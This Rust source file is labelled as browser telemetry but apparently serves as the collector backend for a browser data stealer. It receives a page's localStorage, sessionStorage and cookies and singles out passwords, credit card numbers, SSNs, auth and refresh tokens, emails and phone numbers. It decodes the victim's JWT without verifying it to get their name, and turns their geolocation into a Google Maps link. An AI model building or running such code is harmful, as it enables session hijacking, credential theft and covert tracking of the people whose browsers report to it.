//! Browser telemetry snapshots
//!
//! Turns a browser's storage, cookies, geolocation and device report into
//! the snapshot document kept by the collector:
//! - entries are split into sensitive and non-sensitive by key
//! - a `token` entry is decoded as a JWT (signature not verified)
//! - coordinates become a Google Maps search link

use jsonwebtoken::{decode, Algorithm, DecodingKey, Validation};
use serde::{Deserialize, Serialize};
use serde_json::{json, Map, Value};

/// Keys whose entries are reported as sensitive
pub const SENSITIVE_KEYS: &[&str] = &[
    "password",
    "creditCard",
    "ssn",
    "token",
    "authToken",
    "refreshToken",
    "userData",
    "personalInfo",
    "email",
    "phoneNumber",
];

/// A single storage or cookie entry
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct KeyValue {
    pub key: String,
    #[serde(default)]
    pub value: Value,
}

/// Body posted by the browser agent
#[derive(Debug, Clone, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct TelemetryPayload {
    pub local_storage_data: Vec<KeyValue>,
    pub session_storage_data: Vec<KeyValue>,
    pub cookies: Vec<KeyValue>,
    pub current_url: String,
    #[serde(default)]
    pub geolocation_data: Option<Value>,
    #[serde(default)]
    pub device_data: Option<Value>,
}

/// What happened to a submitted snapshot
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SnapshotOutcome {
    Stored,
    Updated,
    Unchanged,
}

impl SnapshotOutcome {
    pub fn status(&self) -> &'static str {
        match self {
            SnapshotOutcome::Stored => "Data stored in collection",
            SnapshotOutcome::Updated => "Data updated in collection",
            SnapshotOutcome::Unchanged => "Data is identical, ignoring",
        }
    }

    pub fn as_label(&self) -> &'static str {
        match self {
            SnapshotOutcome::Stored => "stored",
            SnapshotOutcome::Updated => "updated",
            SnapshotOutcome::Unchanged => "unchanged",
        }
    }
}

pub fn is_sensitive(key: &str) -> bool {
    SENSITIVE_KEYS.contains(&key)
}

/// Decode JWT claims without checking the signature or expiry.
///
/// Anything that is not a well-formed token decodes to an empty object.
pub fn decode_unverified(token: &str) -> Map<String, Value> {
    let mut validation = Validation::new(Algorithm::HS256);
    validation.insecure_disable_signature_validation();
    validation.validate_exp = false;
    validation.validate_aud = false;
    validation.required_spec_claims.clear();

    match decode::<Map<String, Value>>(token, &DecodingKey::from_secret(&[]), &validation) {
        Ok(data) => data.claims,
        Err(e) => {
            tracing::debug!(error = %e, "Token could not be decoded");
            Map::new()
        }
    }
}

/// Google Maps link for a geolocation report carrying latitude and longitude
pub fn maps_url(geolocation: &Value) -> Option<String> {
    let coordinate = |name: &str| match geolocation.get(name)? {
        Value::Number(n) => Some(n.to_string()),
        Value::String(s) if !s.trim().is_empty() => Some(s.trim().to_string()),
        _ => None,
    };

    let latitude = coordinate("latitude")?;
    let longitude = coordinate("longitude")?;
    Some(format!(
        "https://www.google.com/maps/search/?api=1&query={},{}",
        latitude, longitude
    ))
}

/// Build the snapshot document for a payload
pub fn build_snapshot(payload: &TelemetryPayload) -> Value {
    let (sensitive, non_sensitive): (Vec<&KeyValue>, Vec<&KeyValue>) = payload
        .local_storage_data
        .iter()
        .chain(&payload.session_storage_data)
        .chain(&payload.cookies)
        .partition(|item| is_sensitive(&item.key));

    let decoded_token = sensitive
        .iter()
        .find(|item| item.key == "token")
        .and_then(|item| item.value.as_str())
        .map(decode_unverified)
        .unwrap_or_default();

    let name = decoded_token
        .get("name")
        .and_then(Value::as_str)
        .unwrap_or_default();

    let geolocation = payload.geolocation_data.as_ref().and_then(maps_url);

    json!({
        "message": format!("hello{}", name),
        "sensitive_data": sensitive,
        "non_sensitive_data": non_sensitive,
        "decoded_token": decoded_token,
        "geolocationData": geolocation,
        "deviceData": payload.device_data.clone().unwrap_or(Value::Null),
    })
}

/// Decide how a new snapshot relates to the stored one
pub fn classify(existing: Option<&Value>, snapshot: &Value) -> SnapshotOutcome {
    match existing {
        None => SnapshotOutcome::Stored,
        Some(current) if current == snapshot => SnapshotOutcome::Unchanged,
        Some(_) => SnapshotOutcome::Updated,
    }
}
